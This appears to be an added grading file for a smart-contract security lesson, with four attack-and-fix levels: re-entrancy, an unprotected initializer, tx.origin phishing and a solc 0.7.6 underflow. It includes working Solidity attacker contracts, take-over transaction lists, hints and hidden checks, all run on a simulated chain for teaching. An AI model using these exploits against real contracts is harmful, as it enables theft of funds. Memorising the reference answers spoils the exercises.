@@ -1,0 +1,688 @@
+"""Checks for lesson 11, security: four levels (re-entrancy, an unprotected initializer,
+tx.origin phishing, overflow under solc 0.7.6), each with an attack exercise and a fix exercise.
+
+The levels are declared here with ``sollab.levels.Level``; the notebook plays them with
+``lab.level(...)``. An attack is judged by the chain's state after it runs (the level is won or
+not); a fix is judged by running the level's reference attack against it (it must fail) and by
+honest users (they must still be served).
+"""
+
+from __future__ import annotations
+
+import functools
+
+import sollab
+from sollab.grading import CheckContext, exercise
+from sollab.levels import Instance, Level
+
+LESSON = "11-security"
+ETHER = 10**18
+GAS_ALLOWANCE = ETHER // 20  # what a player may spend on gas and still count as having the loot
+TIP = ETHER // 100
+SUPPLY = 1_000_000
+DEAD = "0x000000000000000000000000000000000000dEaD"
+
+
+@functools.cache
+def _given(name: str):
+    """A level's vulnerable contract, from contracts/11-security/, compiled once."""
+    return sollab.compile_file(sollab.CONTRACTS / LESSON / f"{name}.sol")[name]
+
+
+def _line(exc: Exception) -> str:
+    return str(exc).splitlines()[0]
+
+
+def _same(a, b) -> bool:
+    return str(a).lower() == str(b).lower()
+
+
+def _eth(wei: int) -> str:
+    return f"{wei / ETHER:g} ether"
+
+
+def _stopped(game: Instance) -> str:
+    """Why the attack stopped, if a transaction of it reverted."""
+    return f" (your attack stopped: {game.error})" if game.error else ""
+
+
+# The reference attackers, and helper contracts the fix checks deploy.
+ATTACKERS = """\
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.24;
+
+interface IVault {
+    function deposit() external payable;
+    function withdraw() external;
+}
+
+interface IWallet {
+    function transfer(address payable to, uint256 amount) external;
+}
+
+/// Re-enters withdraw() from receive() while the vault can still pay out the stake.
+contract Reenterer {
+    IVault vault;
+    address payable player;
+    constructor(IVault target) { vault = target; player = payable(msg.sender); }
+    function attack() external payable {
+        vault.deposit{value: msg.value}();
+        vault.withdraw();
+        player.transfer(address(this).balance);
+    }
+    receive() external payable {
+        if (address(vault).balance >= msg.value) vault.withdraw();
+    }
+}
+
+/// Spends the wallet's owner's authority while she pays it a tip.
+contract Phish {
+    IWallet wallet;
+    address payable player;
+    constructor(IWallet target) { wallet = target; player = payable(msg.sender); }
+    receive() external payable { wallet.transfer(player, address(wallet).balance); }
+}
+
+/// A smart-contract wallet: its receive() records each payment (more than 2,300 gas of work).
+contract SmartWallet {
+    uint256 public received;
+    function save(IVault vault) external payable { vault.deposit{value: msg.value}(); }
+    function takeBack(IVault vault) external { vault.withdraw(); }
+    receive() external payable { received += msg.value; }
+}
+"""
+
+
+@functools.cache
+def helpers():
+    return sollab.compile_source(ATTACKERS, "Attackers.sol")
+
+
+def _deploy(t: CheckContext, level: Level, **options) -> Instance:
+    """The level with the learner's contract in the vulnerable one's place, or a failed check
+    saying which step of the level's set-up it could not do."""
+    try:
+        return level.new(t.chain, contract=t.submission, **options)
+    except sollab.LabError as exc:
+        t.expect(False, f"the level to set up with your {t.exercise.contract}", _line(exc))
+
+
+def _transactions(t: CheckContext, target: str, player: str) -> list:
+    txs = t.call(target, player)
+    t.expect(
+        isinstance(txs, list),
+        f"{t.exercise.name}(...) to return a list of transaction dicts",
+        f"{type(txs).__name__}",
+        "return [{'to': ..., 'function': ..., 'args': [...]}, ...]",
+    )
+    return txs
+
+
+# --- level 1: re-entrancy -----------------------------------------------------------------------
+
+
+def _vault_setup(chain, player, artifact, deposits=(4, 3, 3)):
+    vault = chain.deploy(artifact, sender=chain.alice)
+    for who, amount in zip((chain.alice, chain.carol, chain.dave), deposits, strict=False):
+        vault.deposit(value=amount * ETHER, sender=who)
+    return {"vault": vault, "start": {"funds": sum(deposits) * ETHER}}
+
+
+def _vault_won(game: Instance) -> str:
+    left = game.chain.balance(game.vault)
+    if left:
+        return f"the vault still holds {_eth(left)}"
+    if game.gained() < game.start["funds"] - GAS_ALLOWANCE:
+        return (
+            f"the vault is empty, but your account gained only {_eth(game.gained())} of the "
+            f"{_eth(game.start['funds'])} it held: send the loot on to yourself"
+        )
+    return ""
+
+
+reentrancy = Level(
+    f"{LESSON}/reentrancy",
+    "Re-entrancy: empty the vault",
+    goal="the vault is empty and everything it held is in your account",
+    setup=_vault_setup,
+    won=_vault_won,
+    vulnerable=lambda: _given("Vault"),
+    reference=lambda: helpers()["Reenterer"],
+    attack_value=ETHER,
+)
+
+reentrancy_attack = exercise(
+    f"{LESSON}/reentrancy-attack",
+    "A contract that empties the vault by re-entering it",
+    contract="VaultAttacker",
+    hints=[
+        "The vault sends you your Ether *before* it sets your balance to 0. Sending Ether to a "
+        "contract runs its receive() function: what could receive() do while your balance is "
+        "still recorded?",
+        "attack() deposits msg.value and calls withdraw(); receive() calls withdraw() again — "
+        "but only while the vault still holds at least your stake, or the last payment fails "
+        "and undoes everything.",
+        "At the end of attack(), send address(this).balance to the player, the account that "
+        "deployed the attacker (remember it in the constructor).",
+    ],
+)
+
+
+@reentrancy_attack.check("your attacker takes every wei out of the vault", points=2)
+def _(t):
+    verdict = reentrancy.play(t.submission, t.chain)
+    left = t.chain.balance(verdict.instance.vault)
+    t.expect(
+        left == 0,
+        "the vault to hold 0 wei after your attack",
+        _eth(left) + _stopped(verdict.instance),
+        "re-enter withdraw() from receive()",
+    )
+
+
+@reentrancy_attack.check("the stolen Ether ends in your own account", points=1)
+def _(t):
+    verdict = reentrancy.play(t.submission, t.chain)
+    t.expect(verdict.won, "the level to be won", verdict.reason)
+
+
+@reentrancy_attack.check("it empties a vault holding another amount", points=1, hidden=True)
+def _(t):
+    verdict = reentrancy.play(t.submission, t.chain, deposits=(2, 4, 1))
+    t.expect(verdict.won, "the level to be won when the vault holds 7 ether", verdict.reason)
+
+
+reentrancy_fix = exercise(
+    f"{LESSON}/reentrancy-fix",
+    "The vault, fixed against re-entrancy",
+    contract="FixedVault",
+    hints=[
+        "Checks, effects, interactions: set the balance to 0 before sending the Ether.",
+        "A re-entered withdraw() then finds a balance of 0 and reverts, which undoes the "
+        "attacker's whole transaction. A lock (OpenZeppelin's ReentrancyGuard, nonReentrant) "
+        "works too.",
+        "Keep sending with call{value: ...}: transfer() forwards only 2,300 gas, too little for "
+        "a smart-contract wallet's receive() (lesson 06).",
+    ],
+)
+
+
+@reentrancy_fix.check("depositors get back exactly what they put in", points=2)
+def _(t):
+    game = _deploy(t, reentrancy)
+    for who, amount in ((t.alice, 4), (t.carol, 3), (t.dave, 3)):
+        t.expect(
+            game.vault.balanceOf(who) == amount * ETHER,
+            f"balanceOf({who.name}) to be {amount} ether",
+            f"{_eth(game.vault.balanceOf(who))}",
+        )
+        before = t.chain.balance(who)
+        receipt = game.vault.withdraw(sender=who)
+        gained = t.chain.balance(who) - before + receipt.gas_used * 10**9
+        t.expect(
+            gained == amount * ETHER and game.vault.balanceOf(who) == 0,
+            f"withdraw() to pay {who.name} {amount} ether and zero their balance",
+            f"they got {_eth(gained)}; balanceOf is {_eth(game.vault.balanceOf(who))}",
+        )
+    t.expect(t.chain.balance(game.vault) == 0, "the vault to be empty at the end")
+
+
+@reentrancy_fix.check("the re-entrancy attack fails and every depositor is still paid", points=3)
+def _(t):
+    game = _deploy(t, reentrancy)
+    verdict = game.run(reentrancy.reference())
+    kept = t.chain.balance(game.vault)
+    t.expect(
+        not verdict.won and kept >= game.start["funds"],
+        f"the vault to keep the depositors' {_eth(game.start['funds'])} through the attack",
+        f"it holds {_eth(kept)} after the attack",
+        "set the balance to 0 before sending",
+    )
+    for who, amount in ((t.alice, 4), (t.carol, 3), (t.dave, 3)):
+        before = t.chain.balance(who)
+        try:
+            receipt = game.vault.withdraw(sender=who)
+        except sollab.LabError as exc:
+            t.expect(False, f"{who.name}'s withdraw() to succeed after the attack", _line(exc))
+        gained = t.chain.balance(who) - before + receipt.gas_used * 10**9
+        t.expect(
+            gained == amount * ETHER,
+            f"{who.name} to get her {amount} ether back after the attack (a vault that pays "
+            "nobody resists every attack)",
+            _eth(gained),
+        )
+
+
+@reentrancy_fix.check("a smart-contract wallet can still withdraw", points=1, hidden=True)
+def _(t):
+    game = _deploy(t, reentrancy)
+    wallet = t.chain.deploy(helpers()["SmartWallet"], sender=t.eve)
+    wallet.save(game.vault, value=2 * ETHER, sender=t.eve)
+    try:
+        wallet.takeBack(game.vault, sender=t.eve)
+    except sollab.LabError as exc:
+        t.expect(
+            False,
+            "a contract depositor whose receive() does some work to get its 2 ether back",
+            _line(exc),
+            "send with call, not transfer",
+        )
+    t.expect(
+        wallet.received() == 2 * ETHER, "the wallet to receive 2 ether", str(wallet.received())
+    )
+
+
+# --- level 2: an unprotected initializer ------------------------------------------------------
+
+
+def _treasury_setup(chain, player, artifact, funds=10 * ETHER):
+    treasury = chain.deploy(artifact, sender=chain.alice)
+    treasury.initialize(chain.alice, sender=chain.alice)
+    chain.send(treasury, funds, sender=chain.alice)
+    return {"treasury": treasury, "start": {"funds": funds}}
+
+
+def _treasury_won(game: Instance) -> str:
+    missing = []
+    owner = game.treasury.owner()
+    if not _same(owner, game.player):
+        missing.append(f"owner() is {owner}, not you ({game.player})")
+    if left := game.chain.balance(game.treasury):
+        missing.append(f"the treasury still holds {_eth(left)}")
+    return "; ".join(missing)
+
+
+def _take_over(treasury: str, player: str) -> list:
+    return [
+        {"to": treasury, "function": "initialize", "args": [player]},
+        {"to": treasury, "function": "pay", "args": [player, 10 * ETHER]},
+    ]
+
+
+initializer = Level(
+    f"{LESSON}/initializer",
+    "An unprotected initializer: take over the treasury",
+    goal="you own the treasury and its 10 ether are yours",
+    setup=_treasury_setup,
+    won=_treasury_won,
+    vulnerable=lambda: _given("Treasury"),
+    reference=lambda: _take_over,
+)
+
+initializer_attack = exercise(
+    f"{LESSON}/initializer-attack",
+    "Transactions that take over the treasury",
+    submits="function",
+    name="take_over",
+    hints=[
+        "Read initialize(): who may call it, and how many times?",
+        "Two transactions: one that makes you the owner, one that pays the treasury's "
+        "10 ether (10 * 10**18 wei) to you.",
+        "Each transaction is a dict: {'to': treasury, 'function': 'initialize', 'args': "
+        "[player]}, then one calling 'pay' with args [player, amount].",
+    ],
+)
+
+
+def _play_take_over(t: CheckContext, player=None):
+    game = initializer.new(t.chain, player=player or t.bob)
+    return game.run(_transactions(t, game.treasury.address, str(game.player)))
+
+
+@initializer_attack.check("after your transactions you own the treasury", points=2)
+def _(t):
+    game = _play_take_over(t).instance
+    t.expect(
+        _same(game.treasury.owner(), t.bob),
+        "owner() to be you (bob)",
+        f"{game.treasury.owner()}" + _stopped(game),
+    )
+
+
+@initializer_attack.check("the treasury's 10 ether are in your account", points=1)
+def _(t):
+    verdict = _play_take_over(t)
+    t.expect(verdict.won, "the level to be won", verdict.reason)
+
+
+@initializer_attack.check("it takes over a treasury for another player", points=1, hidden=True)
+def _(t):
+    verdict = _play_take_over(t, t.carol)
+    t.expect(verdict.won, "the level to be won with carol as the player", verdict.reason)
+
+
+initializer_fix = exercise(
+    f"{LESSON}/initializer-fix",
+    "The treasury, fixed: initialize() works once",
+    contract="FixedTreasury",
+    hints=[
+        "The deployer still calls initialize(itself) right after deploying: keep the function, "
+        "but let it work only the first time.",
+        "Remember in storage that it has run (a bool), and revert when it is called again; "
+        "OpenZeppelin's Initializable and its `initializer` modifier do the same.",
+    ],
+)
+
+
+@initializer_fix.check("the deployer's initialize() makes it the owner, who can pay", points=2)
+def _(t):
+    game = _deploy(t, initializer)
+    t.expect(_same(game.treasury.owner(), t.alice), "owner() to be alice", game.treasury.owner())
+    before = t.chain.balance(t.frank)
+    try:
+        game.treasury.pay(t.frank, ETHER, sender=t.alice)
+    except sollab.LabError as exc:
+        t.expect(False, "pay(frank, 1 ether) from the owner to succeed", _line(exc))
+    got = t.chain.balance(t.frank) - before
+    t.expect(got == ETHER, "frank to receive 1 ether", _eth(got))
+
+
+@initializer_fix.check("nobody else can pay()", points=1)
+def _(t):
+    game = _deploy(t, initializer)
+    t.expect_revert(
+        lambda: game.treasury.pay(t.bob, ETHER, sender=t.bob),
+        "pay() from bob, who is not the owner, to revert",
+    )
+
+
+@initializer_fix.check("the take-over fails: alice keeps the treasury and its Ether", points=2)
+def _(t):
+    game = _deploy(t, initializer)
+    verdict = game.run(initializer.reference()(game.treasury.address, str(game.player)))
+    kept = t.chain.balance(game.treasury)
+    t.expect(
+        not verdict.won and _same(game.treasury.owner(), t.alice) and kept == 10 * ETHER,
+        "alice to stay the owner and the treasury to keep its 10 ether",
+        f"owner() is {game.treasury.owner()}; it holds {_eth(kept)}",
+        "refuse a second initialize()",
+    )
+
+
+@initializer_fix.check(
+    "initialize() is refused a second time, even to the owner", points=1, hidden=True
+)
+def _(t):
+    game = _deploy(t, initializer)
+    t.expect_revert(
+        lambda: game.treasury.initialize(t.alice, sender=t.alice),
+        "a second initialize() to revert",
+    )
+
+
+# --- level 3: tx.origin phishing --------------------------------------------------------------
+
+
+def _wallet_setup(chain, player, artifact, funds=10 * ETHER):
+    wallet = chain.deploy(artifact, sender=chain.alice)
+    chain.send(wallet, funds, sender=chain.alice)
+    return {"wallet": wallet, "start": {"funds": funds}}
+
+
+def _wallet_won(game: Instance) -> str:
+    if left := game.chain.balance(game.wallet):
+        return f"the wallet still holds {_eth(left)}"
+    if game.gained() < game.start["funds"] - GAS_ALLOWANCE:
+        return f"the wallet is empty, but your account gained only {_eth(game.gained())}"
+    return ""
+
+
+def _lure(game: Instance, attacker) -> None:
+    """The player deploys the attacker; the wallet's owner, alice, sends it a tip."""
+    contract = game.chain.deploy(attacker, game.wallet.address, sender=game.player)
+    game.chain.send(contract, TIP, sender=game.chain.alice)
+
+
+phishing = Level(
+    f"{LESSON}/phishing",
+    "tx.origin phishing: empty alice's wallet",
+    goal="alice's wallet is empty and its Ether is in your account",
+    setup=_wallet_setup,
+    won=_wallet_won,
+    vulnerable=lambda: _given("Wallet"),
+    reference=lambda: helpers()["Phish"],
+    use_attacker=_lure,
+)
+
+phishing_attack = exercise(
+    f"{LESSON}/phishing-attack",
+    "A contract that spends alice's wallet while she tips it",
+    contract="Phisher",
+    hints=[
+        "transfer() checks tx.origin: the account that signed the transaction, however many "
+        "contracts it passes through. Whose transaction is alice's tip?",
+        "alice's tip runs your receive(). From there, call the wallet's transfer(): tx.origin "
+        "is still alice.",
+        "Send the wallet's whole balance (address(wallet).balance) to the player, who deployed "
+        "the Phisher (remember msg.sender in the constructor).",
+    ],
+)
+
+
+@phishing_attack.check("alice's tip to your contract empties her wallet", points=2)
+def _(t):
+    verdict = phishing.play(t.submission, t.chain)
+    left = t.chain.balance(verdict.instance.wallet)
+    t.expect(
+        left == 0,
+        "alice's wallet to hold 0 wei after she tips your contract",
+        _eth(left) + _stopped(verdict.instance),
+        "call the wallet's transfer() from receive()",
+    )
+
+
+@phishing_attack.check("the Ether ends in your own account", points=1)
+def _(t):
+    verdict = phishing.play(t.submission, t.chain)
+    t.expect(verdict.won, "the level to be won", verdict.reason)
+
+
+@phishing_attack.check("it empties a wallet holding another amount", points=1, hidden=True)
+def _(t):
+    verdict = phishing.play(t.submission, t.chain, funds=7 * ETHER // 2)
+    t.expect(verdict.won, "the level to be won on a wallet holding 3.5 ether", verdict.reason)
+
+
+phishing_fix = exercise(
+    f"{LESSON}/phishing-fix",
+    "The wallet, fixed against phishing",
+    contract="FixedWallet",
+    hints=[
+        "Who is calling transfer()? That is msg.sender; tx.origin is only who signed.",
+        "Compare msg.sender with the owner. A contract alice calls then has no more power over "
+        "her wallet than anyone else.",
+    ],
+)
+
+
+@phishing_fix.check("the owner can send Ether out of the wallet", points=2)
+def _(t):
+    game = _deploy(t, phishing)
+    before = t.chain.balance(t.frank)
+    try:
+        game.wallet.transfer(t.frank, 2 * ETHER, sender=t.alice)
+    except sollab.LabError as exc:
+        t.expect(False, "transfer(frank, 2 ether) from alice, the owner, to succeed", _line(exc))
+    got = t.chain.balance(t.frank) - before
+    t.expect(got == 2 * ETHER, "frank to receive 2 ether", _eth(got))
+
+
+@phishing_fix.check("nobody else can", points=1)
+def _(t):
+    game = _deploy(t, phishing)
+    t.expect_revert(
+        lambda: game.wallet.transfer(t.bob, ETHER, sender=t.bob),
+        "transfer() from bob, who is not the owner, to revert",
+    )
+
+
+@phishing_fix.check("the phishing contract gets nothing from alice's tip", points=2)
+def _(t):
+    game = _deploy(t, phishing)
+    verdict = game.run(phishing.reference())
+    kept = t.chain.balance(game.wallet)
+    t.expect(
+        not verdict.won and kept == 10 * ETHER,
+        "the wallet to keep its 10 ether when alice tips a phishing contract",
+        f"it holds {_eth(kept)}",
+        "check msg.sender, not tx.origin",
+    )
+    before = t.chain.balance(t.frank)
+    try:
+        game.wallet.transfer(t.frank, ETHER, sender=t.alice)
+    except sollab.LabError as exc:
+        t.expect(False, "alice's own transfer() to still work after the attack", _line(exc))
+    t.expect(
+        t.chain.balance(t.frank) - before == ETHER,
+        "alice's transfer(frank, 1 ether) to pay frank after the attack (a wallet that pays "
+        "nobody resists every attack)",
+        _eth(t.chain.balance(t.frank) - before),
+    )
+
+
+# --- level 4: overflow under solc 0.7.6 -------------------------------------------------------
+
+
+def _token_setup(chain, player, artifact, supply=SUPPLY):
+    token = chain.deploy(artifact, supply, sender=chain.alice)
+    token.transfer(player, 20, sender=chain.alice)
+    return {"token": token}
+
+
+def _token_won(game: Instance) -> str:
+    held, supply = game.token.balanceOf(game.player), game.token.totalSupply()
+    if held <= supply:
+        return f"you hold {held:,} tokens; the level wants more than the {supply:,} that exist"
+    return ""
+
+
+def _overflow(token: str, player: str) -> list:
+    return [{"to": token, "function": "transfer", "args": [DEAD, 21]}]
+
+
+overflow = Level(
+    f"{LESSON}/overflow",
+    "Overflow in solc 0.7.6: hold more tokens than exist",
+    goal="you hold more tokens than the token's whole supply",
+    setup=_token_setup,
+    won=_token_won,
+    vulnerable=lambda: _given("Token"),
+    reference=lambda: _overflow,
+)
+
+overflow_attack = exercise(
+    f"{LESSON}/overflow-attack",
+    "Transactions that give you more tokens than exist",
+    submits="function",
+    name="overflow",
+    hints=[
+        "In solc 0.7.6, uint256 arithmetic wraps around: 20 - 21 is 2**256 - 1, and a "
+        "uint256 is never below 0, so the require() always passes.",
+        "One transfer of more than your 20 tokens does it — to someone else: to yourself, the "
+        "subtraction and the addition cancel out.",
+    ],
+)
+
+
+def _play_overflow(t: CheckContext, player):
+    game = overflow.new(t.chain, player=player)
+    return game.run(_transactions(t, game.token.address, str(player)))
+
+
+@overflow_attack.check("after your transactions you hold more tokens than exist", points=2)
+def _(t):
+    verdict = _play_overflow(t, t.bob)
+    t.expect(verdict.won, "the level to be won", verdict.reason)
+
+
+@overflow_attack.check("it works for another player", points=1, hidden=True)
+def _(t):
+    verdict = _play_overflow(t, t.carol)
+    t.expect(verdict.won, "the level to be won with carol as the player", verdict.reason)
+
+
+overflow_fix = exercise(
+    f"{LESSON}/overflow-fix",
+    "The token, fixed against overflow",
+    contract="FixedToken",
+    hints=[
+        "Two ways: keep `pragma solidity 0.7.6;` and require that the sender holds at least "
+        "`value` before subtracting, or compile with solc 0.8, where an underflow reverts.",
+        "In 0.8, `balanceOf[msg.sender] - value` with too small a balance reverts with panic "
+        "0x11 — the same transaction that wrapped around in 0.7.6.",
+    ],
+)
+
+
+def _balances(token, who) -> list[int]:
+    return [token.balanceOf(w) for w in who]
+
+
+@overflow_fix.check("transfers move tokens and keep the total", points=2)
+def _(t):
+    game = _deploy(t, overflow)
+    token = game.token
+    token.transfer(t.carol, 5, sender=t.bob)
+    token.transfer(t.bob, 1_000, sender=t.alice)
+    got = _balances(token, (t.alice, t.bob, t.carol))
+    want = [SUPPLY - 1_020, 1_015, 5]
+    t.expect(got == want, f"balances (alice, bob, carol) to be {want}", f"{got}")
+    t.expect(token.totalSupply() == SUPPLY, f"totalSupply() to stay {SUPPLY}")
+
+
+@overflow_fix.check("spending more than you hold is refused", points=2)
+def _(t):
+    game = _deploy(t, overflow)
+    try:
+        receipt = game.token.transfer(DEAD, 21, sender=t.bob)
+    except sollab.LabError:
+        refused = True
+    else:
+        refused = receipt.return_value is False
+    held = game.token.balanceOf(t.bob)
+    t.expect(
+        refused and held == 20,
+        "transfer(someone, 21) by bob, who holds 20, to revert (or return false) and leave him 20",
+        f"it went through and bob holds {held:,}",
+        "check the balance before you subtract, or compile with solc 0.8",
+    )
+
+
+@overflow_fix.check("the overflow attack fails", points=1)
+def _(t):
+    game = _deploy(t, overflow)
+    verdict = game.run(overflow.reference()(game.token.address, str(game.player)))
+    t.expect(not verdict.won, "the level not to be won against your token", verdict.reason)
+    game.token.transfer(t.carol, 20, sender=t.bob)
+    t.expect(
+        game.token.balanceOf(t.carol) == 20,
+        "bob's 20 tokens to reach carol after the attack (a token that moves nothing resists "
+        "every attack)",
+        f"carol holds {game.token.balanceOf(t.carol):,}",
+    )
+
+
+# (bob, carol, dave) as 0, 1, 2: who sends how many to whom, overspends and edge cases included
+MOVES = [(0, 1, 7), (1, 2, 8), (0, 0, 13), (0, 2, 13), (2, 1, 13), (1, 0, 0), (1, 2, 21), (2, 0, 0)]
+
+
+@overflow_fix.check("a run of transfers leaves the balances a ledger would", points=1, hidden=True)
+def _(t):
+    game = _deploy(t, overflow)
+    people = (t.bob, t.carol, t.dave)
+    ledger = [20, 0, 0]
+    for frm, to, amount in MOVES:
+        try:
+            receipt = game.token.transfer(people[to], amount, sender=people[frm])
+            moved = receipt.return_value is not False
+        except sollab.LabError:
+            moved = False
+        if amount <= ledger[frm]:
+            t.expect(
+                moved,
+                f"{people[frm].name}'s transfer of {amount} of their {ledger[frm]} to go through",
+            )
+            ledger[frm] -= amount
+            ledger[to] += amount
+    got = _balances(game.token, people)
+    t.expect(got == ledger, f"balances (bob, carol, dave) to be {ledger}", f"{got}")
